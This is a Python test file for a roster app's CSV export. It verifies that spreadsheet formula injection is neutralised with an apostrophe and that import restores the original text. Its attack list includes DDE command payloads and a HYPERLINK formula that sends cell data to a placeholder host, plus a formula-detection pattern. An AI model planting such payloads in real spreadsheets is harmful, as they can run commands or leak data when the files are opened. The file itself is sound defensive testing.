"""CSV exports neutralise Excel formulas with an apostrophe, and the roster import undoes it."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest

from circular_app.domain.csv_bytes import (
    decode_csv_bytes,
    encode_excel_csv,
    neutralise_formula,
    restore_formula_text,
)
from circular_app.domain.roster import Delivery
from circular_app.domain.roster_csv import ExportRow, export_roster_csv, parse_roster_csv
from circular_app.domain.text import trim

# The attack strings of issue 19: DDE payloads, each formula character, tab/CR before one,
# and values that already begin with apostrophes (they must round-trip as well).
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+81 90 1234 5678",
    "-3",
    "@メモ",
    "\t=1+1",
    "\r=1+1",
    "\t@SUM(A1)",
    "'=既に引用符",
    "''+二つの引用符",
)

# What Excel would evaluate: a formula character, possibly after a tab or CR.
FORMULA_CELL = re.compile(r"[\t\r]?[=+\-@]")


def _cells(data: bytes) -> list[str]:
    text, _ = decode_csv_bytes(data, "export.csv")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _row(name: str, notes: str) -> ExportRow:
    return ExportRow(
        public_id="H-0001",
        han_name="1班",
        route_order=1,
        name=name,
        reading="",
        delivery=Delivery.PAPER,
        large_print=False,
        language="ja",
        phone="",
        email="",
        notes=notes,
        moved_out_on=None,
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_neutralised_cell_round_trips(attack: str) -> None:
    """Restoring a neutralised cell gives back exactly the original text."""
    assert restore_formula_text(neutralise_formula(attack)) == attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_table_export_writes_attack_with_apostrophe(attack: str) -> None:
    """encode_excel_csv writes every attack string so that Excel reads it as text."""
    data, _ = encode_excel_csv(["備考"], [[attack]])
    _header, cell = _cells(data)
    assert cell == "'" + attack and not FORMULA_CELL.match(cell)
    assert restore_formula_text(cell) == attack


@pytest.mark.parametrize("attack", [a for a in ATTACKS if trim(a) == a])
def test_roster_export_then_import_keeps_attack_text(attack: str) -> None:
    """A name and a note holding an attack string survive roster export and import unchanged."""
    row = _row(name=attack, notes=f"{attack}\n二行目")
    data, _ = export_roster_csv([row])
    parsed = parse_roster_csv(data, "export.csv").rows[0]
    assert (parsed.name, parsed.notes) == (row.name, row.notes)


def test_roster_export_has_no_cell_starting_with_a_formula_character() -> None:
    """No cell of a roster export holding every attack string starts like a formula."""
    rows = [
        dataclasses.replace(_row(name=attack, notes=attack), public_id=f"H-{i:04d}", route_order=i + 1)
        for i, attack in enumerate(ATTACKS)
    ]
    data, _ = export_roster_csv(rows)
    assert not [cell for cell in _cells(data) if FORMULA_CELL.match(cell)]


def test_numbers_are_not_neutralised() -> None:
    """A negative number cell is a number, not user text: written without an apostrophe."""
    data, _ = encode_excel_csv(["差"], [[-3], [-1.5]])
    assert _cells(data)[1:] == ["-3", "-1.5"]


def test_plain_apostrophe_text_is_kept() -> None:
    """A value starting with an apostrophe but no formula character is neither added to nor cut."""
    assert neutralise_formula("'80年代") == "'80年代"
    assert restore_formula_text("'80年代") == "'80年代"
